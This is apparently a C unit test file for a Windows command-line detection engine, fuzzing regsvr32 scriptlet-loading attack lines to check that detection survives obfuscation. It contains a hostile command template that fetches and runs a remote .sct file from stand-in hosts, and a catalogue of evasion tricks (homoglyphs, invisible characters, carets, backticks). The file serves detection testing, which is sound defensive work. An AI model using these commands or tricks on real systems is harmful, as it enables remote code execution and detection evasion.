/* Tricks do not change what is found: attack lines are built of tokens, each dressed up at random
 * in ways that Windows or the eye lets pass, and must say the same as the plain one. */
#include "tests/unit/derive/derived.h"

enum { RUNS = 20000, LINE_MAX_BYTES = 4096 };

static uint64_t seed = 88172645463325252u;

static unsigned pick(unsigned n)
{
	seed ^= seed << 13;
	seed ^= seed >> 7;
	seed ^= seed << 17;
	return (unsigned)((seed >> 11) % n);
}

struct text {
	char p[LINE_MAX_BYTES];
	size_t n;
};

static void put(struct text *t, const char *s)
{
	size_t n = strlen(s);

	assert_true(t->n + n < sizeof(t->p));
	memcpy(t->p + t->n, s, n + 1);
	t->n += n;
}

static void put_char(struct text *t, char c)
{
	const char s[2] = { c, '\0' };

	put(t, s);
}

static bool is_letter(char c)
{
	return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z');
}

/* A letter as it is, in the other case, fullwidth, or as the one of another alphabet. */
static void put_letter(struct text *t, char c, bool looks)
{
	static const char *const alike[][2] = { { "a", "\xd0\xb0" }, { "c", "\xd1\x81" },
		                                { "o", "\xd0\xbe" }, { "s", "\xd1\x95" },
		                                { "i", "\xd1\x96" }, { "j", "\xd1\x98" } };
	unsigned how = pick(12);
	char wide[4] = { (char)0xef, (char)0xbd, 0, 0 };

	if (how == 0 && is_letter(c)) {
		put_char(t, (char)(c ^ 0x20));
		return;
	}
	if (looks && how == 1 && c >= 'a' && c <= 'o') {
		wide[2] = (char)(0x81 + c - 'a');
		put(t, wide);
		return;
	}
	for (size_t i = 0; looks && how == 2 && i < SQ_LEN(alike); i++) {
		if (alike[i][0][0] == c) {
			put(t, alike[i][1]);
			return;
		}
	}
	put_char(t, c);
}

static void put_hidden(struct text *t)
{
	static const char *const hidden[] = { "\xc2\xad",     "\xe2\x80\x8b", "\xe2\x80\x8d",
		                              "\xef\xbb\xbf", "\xe2\x81\xa0", "\x01",
		                              "\x7f",         "\xe2\x80\xae", "\xcd\x8f" };

	if (pick(10) == 0)
		put(t, hidden[pick(SQ_LEN(hidden))]);
}

/* A token with its letters dressed, hidden characters within, and quotes around a part of it. */
static void put_token(struct text *t, const char *token)
{
	size_t n = strlen(token);
	size_t from = pick(4) ? n + 1 : pick((unsigned)n), to = from + 1 + pick((unsigned)n);

	/* Behind a backslash a quote is a character. */
	if ((from && from < n && token[from - 1] == '\\') || token[to < n ? to : n - 1] == '\\')
		from = n + 1;

	for (size_t i = 0; i < n; i++) {
		if (i == from)
			put_char(t, '"');
		put_letter(t, token[i], true);
		if (i + 1 < n)
			put_hidden(t);
		if (from < n && (i == to || (i + 1 == n && to >= n)))
			put_char(t, '"');
	}
}

static void put_switch_char(struct text *t)
{
	static const char *const chars[] = { "/",
		                             "/",
		                             "-",
		                             "\xe2\x88\x92",
		                             "\xe2\x80\x93",
		                             "\xef\xbc\x8d",
		                             "\xef\xbc\x8f",
		                             "\xe2\x88\x95",
		                             "/" };

	put(t, chars[pick(SQ_LEN(chars))]);
}

static void put_switch(struct text *t, const char *letter, const char *word)
{
	put_switch_char(t);
	put_token(t, pick(4) ? letter : word);
}

static void put_blanks(struct text *t)
{
	static const char *const blanks[] = { " ", "\t", "  ", " \t ", "      " };

	put(t, blanks[pick(SQ_LEN(blanks))]);
}

struct attack {
	const char *value, *class;
};

static const struct attack attacks[] = {
	{ ":http://a.example/x.sct", "url" },
	{ ":https://192.0.2.1:8080/x", "url" },
	{ ":ftp://h/x", "url" },
	{ ":http:\\\\h\\x", "url" },
	{ ":\\\\h\\s\\x.sct", "unc" },
	{ ":\\\\h@ssl\\d\\x.sct", "webdav" },
	{ ":c:\\users\\public\\x.sct", "path" },
};

static const char *const engines[] = {
	"scrobj.dll",
	"scrobj",
	"C:\\Windows\\System32\\scrobj.dll",
	"C:/Windows/SysWOW64/scrobj.dll",
	"C:\\Windows\\Tasks\\..\\System32\\\\scrobj.dll",
	"%windir%\\system32\\scrobj.dll",
	"\\\\?\\C:\\Windows\\System32\\scrobj.dll",
};

static void put_engine(struct text *t)
{
	const char *e = engines[pick(SQ_LEN(engines))];

	/* Variables mean something only as they are written. */
	if (strchr(e, '%'))
		put(t, e);
	else
		put_token(t, e);
}

/* The parts of an attack in any order, with decoys between. */
static void put_attack(struct text *t, const struct attack *attack)
{
	unsigned order[5] = { 0, 1, 2, 3, 4 };

	for (unsigned i = 0; i < 5; i++) {
		unsigned k = pick(5), swap = order[i];

		order[i] = order[k];
		order[k] = swap;
	}
	for (unsigned i = 0; i < 5; i++) {
		put_blanks(t);
		if (order[i] == 0) {
			put_switch(t, "s", "silent");
		} else if (order[i] == 1) {
			put_switch(t, "u", "unregister");
		} else if (order[i] == 2) {
			put_switch_char(t);
			put(t, pick(4) ? "i" : "install");
			put_hidden(t);
			put_token(t, attack->value);
		} else if (order[i] == 3) {
			put_engine(t);
		} else if (pick(3) == 0) {
			put(t, "\"C:\\Program Files\\V\\v.dll\"");
		}
	}
	if (pick(2))
		put_blanks(t);
}

static bool has(struct derived *d, const char *name, const char *value)
{
	const struct sq_value *v = &d->values[sq_fields_find(d->fields, sq_sv_of(name))];

	for (; v && v->kind != SQ_VALUE_ABSENT; v = sq_event_next(&d->ev, v))
		if (sq_sv_eq(sq_value_sv(v), sq_sv_of(value)))
			return true;
	return false;
}

static void no_trick_hides_an_attack(void **state)
{
	(void)state;
	for (int run = 0; run < RUNS; run++) {
		const struct attack *attack = &attacks[pick(SQ_LEN(attacks))];
		struct text t = { .n = 0 };
		struct derived d;

		put_token(&t, "regsvr32.exe");
		put_attack(&t, attack);
		derived_init(&d);
		derived_put(&d, SQ_F_IMAGE, "C:\\Windows\\System32\\regsvr32.exe");
		derived_put(&d, SQ_F_COMMAND_LINE, t.p);
		sq_derive(&d.ev, &d.arena, SQ_DERIVE_ALL);
		if (!has(&d, "squibly.regsvr32.install_class", attack->class) ||
		    !has(&d, "squibly.regsvr32.scrobj", "true") ||
		    !has(&d, "squibly.regsvr32.switch", "i") ||
		    !has(&d, "squibly.regsvr32.switch", "u"))
			fail_msg("run %d: %s (%s) as %s", run, t.p, attack->class,
			         derived_text(&d, "squibly.command_line"));
		derived_fini(&d);
	}
}

/* What cmd.exe and PowerShell take away, between any two characters of a command for them. */
static void no_caret_hides_a_command(void **state)
{
	static const char command[] = "regsvr32 /s /u /i:http://h.example/a.sct scrobj.dll";

	(void)state;
	for (int run = 0; run < RUNS / 4; run++) {
		struct text t = { .n = 0 };
		bool shell = pick(2);
		struct derived d;

		put(&t, shell ? "cmd /c " : "powershell -c ");
		for (size_t i = 0; i < sizeof(command) - 1; i++) {
			if (pick(6) == 0)
				put(&t, shell ? "^" : "`");
			put_letter(&t, command[i], false);
		}
		derived_init(&d);
		derived_put(&d, SQ_F_IMAGE,
		            shell ? "C:\\Windows\\System32\\cmd.exe"
		                  : "C:\\Program Files\\PowerShell\\7\\pwsh.exe");
		derived_put(&d, SQ_F_COMMAND_LINE, t.p);
		sq_derive(&d.ev, &d.arena, SQ_DERIVE_ALL);
		if (!has(&d, "squibly.launch.carries", "regsvr32_url") ||
		    !has(&d, "squibly.launch.carries", "regsvr32_scrobj"))
			fail_msg("run %d: %s", run, t.p);
		derived_fini(&d);
	}
}

static void lawful_paths_are_as_good_as_each_other(void **state)
{
	static const char *const paths[] = {
		"\"C:\\Program Files\\A B\\c.dll\"",
		"\"C:\\Program Files (x86)\\A\\x64\\c.ocx\"",
		"C:\\PROGRA~1\\A\\c.ax",
		"%ProgramFiles%\\A\\c.dll",
		"C:\\Windows\\System32\\shell32.dll",
		"%SystemRoot%\\SysWOW64\\msxml3.dll",
		"shell32.dll",
		"\"C:/Program Files/A/../B/c.dll\"",
	};
	static const char *const before[] = { "/s", "/u /s", "-s", "/s /n /i:U", "" };

	(void)state;
	for (size_t i = 0; i < SQ_LEN(paths); i++) {
		for (size_t k = 0; k < SQ_LEN(before); k++) {
			struct text t = { .n = 0 };
			struct derived d;

			put(&t, "regsvr32 ");
			put(&t, before[k]);
			put(&t, " ");
			put(&t, paths[i]);
			derived_init(&d);
			derived_put(&d, SQ_F_IMAGE, "C:\\Windows\\System32\\regsvr32.exe");
			derived_put(&d, SQ_F_COMMAND_LINE, t.p);
			sq_derive(&d.ev, &d.arena, SQ_DERIVE_ALL);
			if (!has(&d, "squibly.regsvr32.lawful", "true") ||
			    sq_event_has(&d.ev, SQ_F_D_TRICK))
				fail_msg("%s: %s", t.p,
				         derived_text(&d, "squibly.regsvr32.library_place"));
			derived_fini(&d);
		}
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(no_trick_hides_an_attack),
		cmocka_unit_test(no_caret_hides_a_command),
		cmocka_unit_test(lawful_paths_are_as_good_as_each_other),
	};

	return cmocka_run_group_tests_name("derive/properties", tests, NULL, NULL);
}
